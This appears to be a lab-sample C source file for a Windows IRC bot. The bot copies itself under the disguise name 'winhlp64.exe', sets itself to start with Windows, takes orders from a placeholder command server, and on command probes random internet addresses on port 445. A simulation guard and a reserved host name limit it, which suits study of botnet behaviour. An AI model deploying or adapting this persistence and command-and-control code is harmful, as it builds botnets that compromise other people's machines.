/* The shape of an IRC bot: makes itself at home, calls its control server, joins a channel, obeys.
 *
 * It understands three orders in the channel: ".scan" (tries 64 pseudo-random addresses on port
 * 445, sends nothing), ".status" and ".quit". The control server's name is reserved (RFC 6761) and
 * exists nowhere. */
#include <winsock2.h>

#include "persist.h"
#include "simulated.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define CONTROL_NAME "irc.control.example"
#define CONTROL_PORT 6667
#define CHANNEL	     "#kenbi-lab"

static void say(SOCKET connection, const char *text)
{
	send(connection, text, (int)strlen(text), 0);
}

static SOCKET connect_to(unsigned long address, unsigned short port)
{
	struct sockaddr_in target = { .sin_family = AF_INET, .sin_port = htons(port) };
	target.sin_addr.s_addr = address;
	SOCKET connection = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
	if (connection == INVALID_SOCKET)
		return INVALID_SOCKET;
	if (connect(connection, (struct sockaddr *)&target, sizeof target) != 0) {
		closesocket(connection);
		return INVALID_SOCKET;
	}
	return connection;
}

static void scan(SOCKET control)
{
	unsigned open = 0;
	char line[64];
	for (unsigned i = 0; i < 64; i++) {
		unsigned long address =
			(unsigned long)(1 + rand() % 223) | (unsigned long)(rand() % 256) << 8 |
			(unsigned long)(rand() % 256) << 16 | (unsigned long)(rand() % 256) << 24;
		SOCKET target = connect_to(address, 445);
		if (target != INVALID_SOCKET) {
			open++;
			closesocket(target);
		}
		Sleep(50);
	}
	sprintf(line, "PRIVMSG " CHANNEL " :%u of 64 open\r\n", open);
	say(control, line);
}

/* One line of the server. FALSE: the bot was told to leave. */
static BOOL obey(SOCKET control, char *line)
{
	char *order;
	if (strncmp(line, "PING ", 5) == 0) {
		line[1] = 'O';
		say(control, line);
		say(control, "\r\n");
	} else if (strstr(line, " 001 ") != NULL) {
		say(control, "JOIN " CHANNEL " hush\r\n");
	} else if ((order = strstr(line, "PRIVMSG " CHANNEL " :.")) != NULL) {
		order += strlen("PRIVMSG " CHANNEL " :.");
		if (strncmp(order, "scan", 4) == 0)
			scan(control);
		else if (strncmp(order, "status", 6) == 0)
			say(control, "PRIVMSG " CHANNEL " :idle\r\n");
		else if (strncmp(order, "quit", 4) == 0)
			return FALSE;
	}
	return TRUE;
}

static void converse(SOCKET control)
{
	char text[1024];
	size_t used = 0;
	for (;;) {
		int length = recv(control, text + used, (int)(sizeof text - 1 - used), 0);
		if (length <= 0)
			return;
		used += (size_t)length;
		text[used] = '\0';
		char *start = text, *end;
		while ((end = strstr(start, "\r\n")) != NULL) {
			*end = '\0';
			if (!obey(control, start))
				return;
			start = end + 2;
		}
		used = strlen(start);
		memmove(text, start, used + 1);
		if (used == sizeof text - 1)
			used = 0;
	}
}

int main(void)
{
	char path[MAX_PATH], hello[128];
	WSADATA data;
	leave_unless_simulated();
	CreateMutexA(NULL, FALSE, "kenbi-lab-bot");
	if (GetLastError() == ERROR_ALREADY_EXISTS)
		return 0;
	if (copy_self("winhlp64.exe", path))
		start_with_windows("Windows Help 64", path);
	srand(GetTickCount());
	WSAStartup(MAKEWORD(2, 2), &data);
	for (unsigned attempt = 0; attempt < 3; attempt++) {
		struct hostent *host = gethostbyname(CONTROL_NAME);
		SOCKET control = INVALID_SOCKET;
		if (host != NULL)
			control = connect_to(*(unsigned long *)(void *)host->h_addr_list[0],
					     CONTROL_PORT);
		if (control != INVALID_SOCKET) {
			unsigned number = (unsigned)rand() % 90000 + 10000;
			sprintf(hello, "NICK lab-%u\r\nUSER lab%u 8 * :lab\r\n", number, number);
			say(control, hello);
			converse(control);
			closesocket(control);
		}
		Sleep(30000);
	}
	WSACleanup();
	return 0;
}
